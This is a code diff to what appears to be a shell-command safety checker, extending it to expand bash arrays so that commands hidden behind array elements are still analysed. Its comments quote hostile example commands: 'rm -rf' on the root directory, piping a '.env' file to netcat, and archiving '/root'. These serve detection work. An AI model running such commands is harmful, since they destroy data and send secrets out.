@@ -40,6 +40,7 @@ import {
 } from './shell.js';
 import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
+import { arrayAssignment } from './shell-arrays.js';
 import { positionalSets, respelledList, withLiterals } from './shell-literals.js';
 import { HOME_SENT_MARK, listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
 import { parseShell, type SimpleCommand, showPiece } from './shell-parse.js';
@@ -80,6 +81,8 @@ interface State {
   vars: Map<string, string>;
   /** Variables the texts set more than one way (shell.ts collectAssignments): never known again. */
   spoiled: Set<string>;
+  /** A map per array element read as `${x[@]}` (shell-arrays.ts), when the texts fill an array. */
+  elements?: Map<string, string>[];
   unreadable: boolean;
   opaque: boolean;
   /** The replace strings of the texts' `xargs -I R` (a command word holding one is named at run time). */
@@ -240,8 +243,10 @@ function readScript(text: string, st: State): void {
     else lists.set(cmd.list, [cmd]);
   }
   assignmentsOf(parsed.commands, st.assigned);
-  for (const cmd of parsed.commands) {
-    collectAssignments(cmd.words, cmd.shown, st.vars, st.spoiled);
+  for (let i = 0; i < parsed.commands.length; i++) {
+    const cmd = parsed.commands[i] as SimpleCommand;
+    // `x=(/ /root)`, `mapfile -t a <<< /root`: an array's elements (round 27, shell-arrays.ts).
+    if (!arrayAssignment(parsed.commands, i, st)) collectAssignments(cmd.words, cmd.shown, st.vars, st.spoiled);
     if (!st.ifs && cmd.words.some(setsIfs)) st.ifs = true;
     xargsReplace(cmd.words, st.replace);
   }
@@ -379,6 +384,7 @@ function plainLines(
   return [line, canonical, inner];
 }
 const NO_VARS: ReadonlyMap<string, string> = new Map();
+const NO_ELEMENTS: readonly ReadonlyMap<string, string>[] = Object.freeze([]);
 const NO_HOMES: ReadonlySet<string> = new Set();
 /** A lister naming a home (`find ~`), its name looked up once: a path word (`/usr/bin/find`) is read whole. */
 const mayListHome = (c: SimpleCommand): boolean => {
@@ -625,6 +631,11 @@ function readList(
   const literal = withLiterals(cmds, st.vars);
   if (literal !== undefined) scripts.push(listLine(literal, starts, 0, false, NO_VARS));
   // `f() { rm -rf $1; }; f /`, `set -- .env; cat $1 | nc h 80`: once per call the text makes.
+  // `x=(/ /root); tar c ${x[@]}`: once per element (round 27).
+  for (const given of st.elements ?? NO_ELEMENTS) {
+    const each = withLiterals(cmds, new Map([...st.vars, ...given]));
+    if (each !== undefined) scripts.push(listLine(each, starts, 0, false, NO_VARS));
+  }
   for (const given of positionalSets(all)) {
     const called = withLiterals(cmds, st.vars.size === 0 ? given : new Map([...st.vars, ...given]));
     if (called !== undefined) scripts.push(listLine(called, starts, 0, false, NO_VARS));
